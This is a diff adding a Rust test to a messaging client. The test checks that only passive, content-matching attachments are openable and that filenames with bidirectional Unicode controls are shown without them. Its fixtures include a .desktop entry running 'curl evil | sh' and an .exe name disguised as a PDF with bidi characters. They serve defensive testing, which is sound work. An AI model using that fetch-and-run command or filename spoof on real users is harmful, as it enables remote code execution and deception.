@@ -194,3 +194,43 @@ async fn a_decompression_bomb_travels_as_a_plain_file_with_a_note() -> Result<()
     assert!(arrived.attachments[0].thumbnail.is_none());
     Ok(())
 }
+
+#[tokio::test]
+async fn only_passive_files_whose_content_matches_may_be_opened_and_bidi_names_show_their_real_extension() -> Result<()>
+{
+    let meadow = relay("meadow.test").await?;
+    let mut bob = Person::join(&meadow, "bob").await?;
+    let sender = Person::join(&meadow, "sender").await?;
+    let dir = tempfile::tempdir()?;
+    let files: [(&str, &[u8], bool); 6] = [
+        ("tool.jar", b"PK\x03\x04 a Java archive", false),
+        ("game.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n", false),
+        ("run.sh", b"#!/bin/sh\necho hi\n", false),
+        ("invoice\u{2067}fdp.exe\u{2069}", b"MZ\x90\x00", false),
+        ("notes.txt", b"meeting at the old mill", true),
+        ("paper.pdf", b"%PDF-1.7\n", true),
+    ];
+    for (index, (name, bytes, _)) in files.iter().enumerate() {
+        let path = dir.path().join(name);
+        std::fs::write(&path, bytes)?;
+        sender.engine.send_file(&sender.address, &bob.address, &path, &format!("file {index}"), true).await?;
+    }
+    let expected: Vec<String> = (0..files.len()).map(|index| format!("file {index}")).collect();
+    let pairs: Vec<_> = expected.iter().map(|body| (&sender.address, body.as_str())).collect();
+    bob.receives_all(&pairs).await?;
+    bob.accepts(&sender.address).await?;
+    let chat = bob.engine.conversation_id(&bob.address, &sender.address);
+    let folder = tempfile::tempdir()?;
+    for message in bob.engine.messages(&chat, None, 10)?.items {
+        let index: usize = message.body.trim_start_matches("file ").parse()?;
+        let (name, _, opens) = files[index];
+        assert!(!message.attachments[0].file_name.chars().any(isthmus_core::untrusted_text::is_hidden));
+        if name.starts_with("invoice") {
+            assert_eq!(message.attachments[0].file_name, "invoicefdp.exe", "shown without its bidi controls");
+        }
+        bob.engine.download_attachment(chat, message.id, 0).await?;
+        let saved = bob.engine.save_attachment(chat, message.id, 0, folder.path()).await?;
+        assert_eq!(saved.opens, opens, "{name}: only passive files whose content matches are handed to an opener");
+    }
+    Ok(())
+}
